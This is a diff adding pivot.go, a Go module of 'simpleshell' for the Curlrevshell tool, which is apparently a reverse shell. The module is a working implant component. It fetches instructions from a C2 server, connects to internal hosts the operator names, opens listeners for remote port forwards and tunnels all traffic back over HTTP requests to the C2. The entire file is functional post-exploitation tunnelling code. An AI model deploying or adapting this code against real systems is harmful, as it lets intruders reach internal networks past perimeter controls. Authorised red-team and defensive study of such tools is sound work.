@@ -0,0 +1,384 @@
+package simpleshell
+
+/*
+ * pivot.go
+ * Connections on Curlrevshell's behalf
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"bufio"
+	"cmp"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"net"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+const (
+	// PivotPath is the path on Curlrevshell from which GoPivot gets
+	// instructions.  Each connection is carried by a request to
+	// PivotPath, a slash, and the connection's ID.
+	PivotPath = "/x"
+
+	// PivotConnect is the instruction to connect to an address.  It's
+	// followed by a space, a connection ID, a space, and a host:port.
+	PivotConnect = "connect"
+
+	// PivotListen is the instruction to listen on an address, for a
+	// remote port forward.  It's followed by a space, a forward ID, a
+	// space, and a host:port.  GoPivot replies with a request to
+	// PivotPath, a slash, and the forward ID, with either
+	// PivotListeningHeader or PivotErrorHeader set.  Each accepted
+	// connection is sent to Curlrevshell with PivotForwardHeader set to
+	// the forward ID.
+	PivotListen = "listen"
+
+	// PivotUnlisten is the instruction to stop listening for a remote
+	// port forward.  It's followed by a space and a forward ID.
+	// Connections already accepted aren't closed.
+	PivotUnlisten = "unlisten"
+
+	// PivotErrorHeader is the HTTP header in which GoPivot tells
+	// Curlrevshell why a connection failed.
+	PivotErrorHeader = "Pivot-Error"
+
+	// PivotListeningHeader is the HTTP header in which GoPivot tells
+	// Curlrevshell the address on which it's listening.
+	PivotListeningHeader = "Pivot-Listening"
+
+	// PivotForwardHeader is the HTTP header in which GoPivot tells
+	// Curlrevshell the forward ID for a connection accepted for a remote
+	// port forward.
+	PivotForwardHeader = "Pivot-Forward"
+
+	// DefaultPivotMaxStreams is the default maximum number of
+	// connections GoPivot will have at once.
+	DefaultPivotMaxStreams = 64
+
+	// DefaultPivotDialTimeout is the default amount of time GoPivot waits
+	// for a connection to be made.
+	DefaultPivotDialTimeout = 10 * time.Second
+)
+
+// errTooManyStreams is sent to Curlrevshell when GoPivot already has
+// PivotConfig.MaxStreams connections.
+var errTooManyStreams = errors.New("too many connections")
+
+// errUnlistened is sent to Curlrevshell when a remote port forward is closed
+// before it's listening.
+var errUnlistened = errors.New("forward closed before listening")
+
+// PivotConfig configures GoPivot.
+type PivotConfig struct {
+	// MaxStreams is the maximum number of connections to have at once.
+	// If unset, DefaultPivotMaxStreams is used.
+	MaxStreams int
+
+	// DialTimeout is how long to wait for a connection to be made.  If
+	// unset, DefaultPivotDialTimeout is used.
+	DialTimeout time.Duration
+}
+
+// pivoter holds what GoPivot needs to follow instructions.
+type pivoter struct {
+	ctx    context.Context
+	conf   ConnConfig
+	client *http.Client
+	dialer net.Dialer
+	sem    chan struct{} /* Limits connections. */
+	wg     sync.WaitGroup
+
+	/* Forward ID -> listener.  Listeners are nil until listening, so we
+	notice being told to stop before we've started. */
+	lmu       sync.Mutex
+	listeners map[string]net.Listener
+}
+
+// GoPivot gets instructions from Curlrevshell at conf.C2's PivotPath and
+// makes TCP connections on its behalf, e.g. for SOCKS5 or port forwarding.
+// Each connection's data is carried in its own full-duplex request, which
+// has its own flow control.  With HTTP/2, the requests are multiplexed over
+// a single connection.
+//
+// GoPivot returns when the request for instructions ends or ctx is done,
+// which is not considered an error.  Connections and listeners are closed
+// before GoPivot returns.
+func GoPivot(ctx context.Context, conf ConnConfig, pconf PivotConfig) error {
+	if err := conf.Allowed(time.Now()); nil != err {
+		return err
+	}
+	client, _, err := newClient(conf)
+	if nil != err {
+		return err
+	}
+	defer client.CloseIdleConnections()
+
+	/* Ask for instructions. */
+	u, err := pivotURL(conf.C2, "")
+	if nil != err {
+		return err
+	}
+	req, err := newRequest(ctx, conf, http.MethodGet, u, nil)
+	if nil != err {
+		return fmt.Errorf("preparing request: %w", err)
+	}
+	res, err := client.Do(req)
+	if nil != err {
+		return fmt.Errorf("connecting to %s: %w", u, err)
+	}
+	defer res.Body.Close()
+	if http.StatusOK != res.StatusCode {
+		return fmt.Errorf(
+			"connecting to %s: %w",
+			u,
+			StatusError(res.StatusCode),
+		)
+	}
+
+	/* Follow them. */
+	sctx, scancel := context.WithCancel(ctx)
+	p := &pivoter{
+		ctx:    sctx,
+		conf:   conf,
+		client: client,
+		dialer: net.Dialer{Timeout: cmp.Or(
+			pconf.DialTimeout,
+			DefaultPivotDialTimeout,
+		)},
+		sem: make(chan struct{}, cmp.Or(
+			pconf.MaxStreams,
+			DefaultPivotMaxStreams,
+		)),
+		listeners: make(map[string]net.Listener),
+	}
+	defer p.wg.Wait()
+	defer p.closeListeners()
+	defer scancel()
+	scanner := bufio.NewScanner(res.Body)
+	for scanner.Scan() {
+		/* Ignore instructions we don't know, from newer versions. */
+		verb, rest, _ := strings.Cut(scanner.Text(), " ")
+		id, addr, _ := strings.Cut(rest, " ")
+		if "" == id {
+			continue
+		}
+		switch verb {
+		case PivotConnect:
+			if "" != addr {
+				p.goDo(func() { p.connect(id, addr) })
+			}
+		case PivotListen:
+			if "" != addr {
+				p.pendListen(id)
+				p.goDo(func() { p.listen(id, addr) })
+			}
+		case PivotUnlisten:
+			p.unlisten(id)
+		}
+	}
+	if err := scanner.Err(); nil != err && nil == ctx.Err() {
+		return fmt.Errorf("reading instructions: %w", err)
+	}
+	return nil
+}
+
+// goDo calls f in its own goroutine, tracked by p.wg.
+func (p *pivoter) goDo(f func()) {
+	p.wg.Add(1)
+	go func() {
+		defer p.wg.Done()
+		f()
+	}()
+}
+
+// connect connects to addr and proxies between the connection and a request
+// to Curlrevshell for the given ID.  If we can't connect, Curlrevshell is
+// told why.
+func (p *pivoter) connect(id, addr string) {
+	u, err := pivotURL(p.conf.C2, id)
+	if nil != err {
+		return
+	}
+
+	/* Try to connect. */
+	var c net.Conn
+	select {
+	case p.sem <- struct{}{}:
+		defer func() { <-p.sem }()
+		c, err = p.dialer.DialContext(p.ctx, "tcp", addr)
+	default:
+		err = errTooManyStreams
+	}
+
+	/* Tell Curlrevshell it didn't work, or hook it up. */
+	if nil != err {
+		p.report(u, PivotErrorHeader, err.Error())
+		return
+	}
+	p.proxy(u, c, nil)
+}
+
+// pendListen notes that we're about to listen for the remote port forward
+// with the given ID, so an unlisten which comes before we're listening isn't
+// lost.
+func (p *pivoter) pendListen(id string) {
+	p.lmu.Lock()
+	defer p.lmu.Unlock()
+	p.listeners[id] = nil
+}
+
+// listen listens on addr for a remote port forward with the given ID, which
+// should have been passed to pendListen, and sends accepted connections to
+// Curlrevshell.  Curlrevshell is told whether or not it worked.
+func (p *pivoter) listen(id, addr string) {
+	u, err := pivotURL(p.conf.C2, id)
+	if nil != err {
+		p.unlisten(id)
+		return
+	}
+
+	/* Try to listen.  We may have been told to stop while we were
+	getting the listener. */
+	var lc net.ListenConfig
+	l, err := lc.Listen(p.ctx, "tcp", addr)
+	if nil != err {
+		p.unlisten(id)
+		p.report(u, PivotErrorHeader, err.Error())
+		return
+	}
+	defer l.Close()
+	p.lmu.Lock()
+	if nil != p.ctx.Err() {
+		p.lmu.Unlock()
+		return
+	}
+	if _, ok := p.listeners[id]; !ok {
+		p.lmu.Unlock()
+		p.report(u, PivotErrorHeader, errUnlistened.Error())
+		return
+	}
+	p.listeners[id] = l
+	p.lmu.Unlock()
+	p.report(u, PivotListeningHeader, l.Addr().String())
+
+	/* Send connections back. */
+	fh := http.Header{PivotForwardHeader: []string{id}}
+	for {
+		c, err := l.Accept()
+		if nil != err {
+			return
+		}
+		select {
+		case p.sem <- struct{}{}:
+		default: /* Too many. */
+			c.Close()
+			continue
+		}
+		p.goDo(func() {
+			defer func() { <-p.sem }()
+			u, err := pivotURL(
+				p.conf.C2,
+				strconv.FormatUint(rand.Uint64(), 36),
+			)
+			if nil != err {
+				c.Close()
+				return
+			}
+			p.proxy(u, c, fh)
+		})
+	}
+}
+
+// unlisten stops listening for the remote port forward with the given ID,
+// or keeps it from starting.
+func (p *pivoter) unlisten(id string) {
+	p.lmu.Lock()
+	defer p.lmu.Unlock()
+	if l := p.listeners[id]; nil != l {
+		l.Close()
+	}
+	delete(p.listeners, id)
+}
+
+// closeListeners closes all of p's listeners.
+func (p *pivoter) closeListeners() {
+	p.lmu.Lock()
+	defer p.lmu.Unlock()
+	for id, l := range p.listeners {
+		if nil != l {
+			l.Close()
+		}
+		delete(p.listeners, id)
+	}
+}
+
+// report makes a request to u with an empty body and the header k set to v.
+func (p *pivoter) report(u, k, v string) {
+	req, err := newRequest(p.ctx, p.conf, http.MethodPost, u, http.NoBody)
+	if nil != err {
+		return
+	}
+	req.Header.Set(k, v)
+	if res, err := p.client.Do(req); nil == err {
+		res.Body.Close()
+	}
+}
+
+// proxy proxies between c and a request to u with the extra headers in h,
+// which may be nil.  c is closed when proxying's finished.
+func (p *pivoter) proxy(u string, c net.Conn, h http.Header) {
+	defer c.Close()
+
+	/* The connection's wrapped to keep the transport from closing it once
+	it's read EOF. */
+	req, err := newRequest(
+		p.ctx,
+		p.conf,
+		http.MethodPost,
+		u,
+		struct{ io.Reader }{c},
+	)
+	if nil != err {
+		return
+	}
+	for k, vs := range h {
+		req.Header[k] = vs
+	}
+	res, err := p.client.Do(req)
+	if nil != err {
+		return
+	}
+	defer res.Body.Close()
+	if http.StatusOK != res.StatusCode {
+		return
+	}
+	io.Copy(c, res.Body)
+	c.Close() /* Stop sending before closing the response. */
+}
+
+// pivotURL returns the URL from which to get instructions if id is empty,
+// or to which to connect a connection with the given ID.  c2's last IOPath,
+// if it has one, is removed.
+func pivotURL(c2, id string) (string, error) {
+	u, err := url.Parse(c2)
+	if nil != err {
+		return "", fmt.Errorf("parsing C2 URL: %w", err)
+	}
+	base := strings.TrimSuffix(strings.TrimSuffix(u.Path, "/"), IOPath)
+	u.Path = base + PivotPath
+	if "" != id {
+		u.Path += "/" + id
+	}
+	return u.String(), nil
+}